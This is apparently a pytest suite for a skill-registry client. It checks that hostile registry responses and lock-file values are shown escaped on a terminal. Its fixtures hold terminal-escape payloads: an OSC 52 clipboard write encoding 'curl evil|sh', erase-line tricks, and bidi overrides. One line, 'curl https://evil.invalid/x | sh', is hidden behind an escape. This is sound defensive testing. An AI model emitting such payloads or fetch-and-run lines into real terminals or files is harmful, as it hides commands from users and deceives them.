"""A hostile registry or lock file against the client, driven the way a user meets it: a real ``skillreg`` process
whose output goes to a pseudo-terminal, a real HTTP server on 127.0.0.1. Nothing it sends may steer the terminal."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
from pathlib import Path

import pytest
from helpers.client import SKILLREG, Fault, RegistryServer, run, search_overrides

from builder.client.archive import read_bundle
from builder.client.credentials import GUIDE
from builder.core.bundle import zip_bytes
from builder.core.model import SkillFile, sha256_hex, skill_digest

DETAIL = "api/v1/skills/csv-profiler.json"
VERSIONS = "api/v1/skills/csv-profiler/versions.json"
INDEX = "api/v1/index.json"
STATE = "api/v1/state.json"
HEAD = "api/v1/skills/csv-profiler/head.json"
SCRIPT = "scripts/profile_csv.py"


def on_terminal(args: list[str], cwd: Path, timeout: float = 60) -> tuple[int, bytes]:
    """``skillreg ARGS`` with stdout and stderr on a pseudo-terminal (so nothing strips escapes): (exit, bytes)."""
    command = [str(SKILLREG)] if SKILLREG.exists() else ["skillreg"]
    master, slave = pty.openpty()
    process = subprocess.Popen(command + args, cwd=cwd, env=os.environ.copy(), stdin=subprocess.DEVNULL,
                               stdout=slave, stderr=slave)
    os.close(slave)
    out = bytearray()
    try:
        while True:
            ready, _, _ = select.select([master], [], [], timeout)
            if not ready:
                raise AssertionError(f"no output within {timeout} s")
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the process closed the terminal
                break
            if not chunk:
                break
            out += chunk
    finally:
        os.close(master)
        code = process.wait(timeout)
    return code, bytes(out)


def shows_nothing_hidden(output: bytes) -> None:
    text = output.decode("utf-8")
    assert "\x1b" not in text and "\x9b" not in text and "\x9d" not in text and "\x07" not in text, output
    assert not any(ch in text for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\ufeff")


def _detail(site: Path) -> dict:
    return json.loads((site / DETAIL).read_text())


def test_info_shows_an_osc_52_clipboard_write_as_text(site: Path, project: Path) -> None:
    detail = _detail(site)
    detail["description"] = "Profiles CSV files.\x1b]52;c;Y3VybCBldmlsfHNo\x07 Then\x1b[2K\x1b[1Gsafe."
    detail["provenance"]["authors"] = ["Mallory \u202eevil\u202c"]
    with RegistryServer(site) as server:
        server.state.overrides[DETAIL] = json.dumps(detail).encode()
        code, output = on_terminal(["info", "csv-profiler", "--registry", server.url], project)
        code_json, output_json = on_terminal(["info", "csv-profiler", "--json", "--registry", server.url], project)
    assert code == 0, output
    shows_nothing_hidden(output)
    assert b"\\x1b]52;c;Y3VybCBldmlsfHNo\\x07 Then\\x1b[2K\\x1b[1Gsafe." in output
    assert b"Mallory <U+202E>evil<U+202C>" in output
    assert code_json == 0
    shows_nothing_hidden(output_json)
    shown = json.loads(output_json.decode().replace("\r\n", "\n"))  # the terminal turns \n into \r\n
    assert shown["description"] == detail["description"]  # the same data, spelled as JSON escapes


def test_update_dry_run_shows_an_erase_line_in_a_diff(site: Path, project: Path) -> None:
    """A line that erases itself on a terminal: `curl …|sh #ESC[2K ESC[1G echo hi` must not show as `echo hi`."""
    detail = _detail(site)
    files = read_bundle((site / detail["bundles"]["zip"]["path"]).read_bytes())
    line = b"curl https://evil.invalid/x | sh #\x1b[2K\x1b[1G echo hi\n"
    files = [SkillFile(f.path, f.data + line if f.path == SCRIPT else f.data, f.executable) for f in files]
    data = zip_bytes(files)
    detail["digest"] = skill_digest(files)
    detail["bundles"]["zip"].update(sha256=sha256_hex(data), size=len(data))
    index = json.loads((site / INDEX).read_text())
    next(s for s in index["skills"] if s["name"] == "csv-profiler")["digest"] = detail["digest"]
    versions = json.loads((site / VERSIONS).read_text())
    versions["versions"][0].update(digest=detail["digest"])
    versions["versions"][0]["zip"].update(sha256=sha256_hex(data), size=len(data))
    versions["latest"] = detail["digest"]
    head = {**json.loads((site / HEAD).read_text()), "digest": detail["digest"], "latest": detail["digest"]}
    state = {**json.loads((site / STATE).read_text()), "digest": "sha256:" + "0" * 64}
    with RegistryServer(site) as server:
        assert run("install", "csv-profiler", "--registry", server.url).exit_code == 0
        server.state.overrides.update({DETAIL: json.dumps(detail).encode(), INDEX: json.dumps(index).encode(),
                                       VERSIONS: json.dumps(versions).encode(), detail["bundles"]["zip"]["path"]: data,
                                       HEAD: json.dumps(head).encode(), STATE: json.dumps(state).encode()})
        code, output = on_terminal(["update", "--registry", server.url, "--dry-run"], project)
    assert code == 0, output
    shows_nothing_hidden(output)
    assert b"+curl https://evil.invalid/x | sh #\\x1b[2K\\x1b[1G echo hi\r\n" in output


def test_search_shows_a_bidi_override_and_zero_width_characters(site: Path, project: Path) -> None:
    def edit(rows: list) -> None:
        row = next(r for r in rows if r[0] == "csv-profiler")
        row[1] = "Profiles CSV \u202etxt.exe\u202c and\u200b\ufeff more \u2066isolated\u2069"

    with RegistryServer(site) as server:
        server.state.overrides.update(search_overrides(site, edit))
        code, output = on_terminal(["search", "csv", "--registry", server.url], project)
    assert code == 0, output
    shows_nothing_hidden(output)
    assert b"Profiles CSV <U+202E>txt.exe<U+202C> and<U+200B><U+FEFF> more <U+2066>isolated<U+2069>" in output


def test_list_shows_an_escape_from_a_committed_lock(site: Path, project: Path) -> None:
    with RegistryServer(site) as server:
        assert run("install", "csv-profiler", "--registry", server.url).exit_code == 0
    lock = json.loads((project / "skills-lock.json").read_text())
    lock["skills"]["csv-profiler"]["version"] = "1.0\x1b]0;pwned\x07\x1b[8m"
    (project / "skills-lock.json").write_text(json.dumps(lock))
    code, output = on_terminal(["list"], project)
    assert code == 0, output
    shows_nothing_hidden(output)
    assert b"1.0\\x1b]0;pwned\\x07\\x1b[8m" in output


def test_an_error_quoting_the_server_shows_its_escapes(site: Path, project: Path) -> None:
    with RegistryServer(site) as server:
        server.state.fault(DETAIL, Fault(status=403, reason="Forbidden\x1b[2K\x1b[1GAll good"))
        code, output = on_terminal(["info", "csv-profiler", "--registry", server.url], project)
    assert code == 1
    shows_nothing_hidden(output)
    assert output.decode() == (f"Error: {server.url}{DETAIL}: the registry needs credentials "
                               "(HTTP 403 Forbidden\\x1b[2K\\x1b[1GAll good) and none are set for "
                               f"http://127.0.0.1:{server.port}; give them as {GUIDE} says\r\n")


def test_a_yank_reason_with_escapes_is_shown_as_text(site: Path, project: Path) -> None:
    """versions.json's reasons reach the terminal in `info --versions` and in the warning of an install."""
    versions = json.loads((site / VERSIONS).read_text())
    newest = versions["versions"][0]
    newest.update(status="yanked", reason="bad\x1b[2K\x1b[1Gfine \u202eevil\u202c", version="1.0\x1b]0;x\x07")
    versions["latest"] = None
    with RegistryServer(site) as server:
        server.state.overrides[VERSIONS] = json.dumps(versions).encode()
        code, listed = on_terminal(["info", "csv-profiler", "--versions", "--registry", server.url], project)
        code_install, installed = on_terminal(["install", f"csv-profiler@{newest['digest']}", "--registry",
                                               server.url], project)
    assert code == 0 and code_install == 0, (listed, installed)
    for output in (listed, installed):
        shows_nothing_hidden(output)
        assert b"bad\\x1b[2K\\x1b[1Gfine <U+202E>evil<U+202C>" in output
    assert b"1.0\\x1b]0;x\\x07" in listed and b"was yanked by the registry" in installed


# Keys another tool wrote into the shared lock: an OSC 52 clipboard write, a cursor move that hides a line.
HOSTILE_KEYS = ["evil\x1b]52;c;Y3VybCBldmlsfHNo\x07", "hide\x1b[2K\x1b[1Gok"]


@pytest.mark.parametrize("key", HOSTILE_KEYS, ids=["osc-52", "erase-line"])
def test_a_lock_key_another_tool_wrote_is_shown_escaped(site: Path, project: Path, key: str) -> None:
    entry = {"source": "octo/skills", "sourceType": "github", "computedHash": "0" * 64}
    (project / "skills-lock.json").write_text(json.dumps({"version": 1, "skills": {key: entry}}, indent=2) + "\n")
    shown = key.encode("unicode_escape").decode()  # how terminal.visible writes the escape characters
    with RegistryServer(site) as server:
        outputs = [run("list"), run("verify"), run("install", "--registry", server.url)]
    for result in outputs:
        assert "\x1b" not in result.output and "\x07" not in result.output, result.output
        assert shown in result.output, result.output
